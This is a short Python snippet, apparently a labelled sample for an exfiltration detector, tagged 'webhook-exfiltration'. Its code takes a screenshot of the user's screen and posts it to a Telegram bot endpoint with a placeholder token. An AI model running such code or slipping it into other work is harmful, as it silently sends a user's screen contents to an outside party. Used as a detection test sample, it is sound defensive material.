# expect: 7 webhook-exfiltration
from PIL import ImageGrab
import io, requests
img = ImageGrab.grab()
b = io.BytesIO()
img.save(b, 'PNG')
requests.post('https://api.telegram.org/bot1:x/sendPhoto', files={'photo': b.getvalue()})
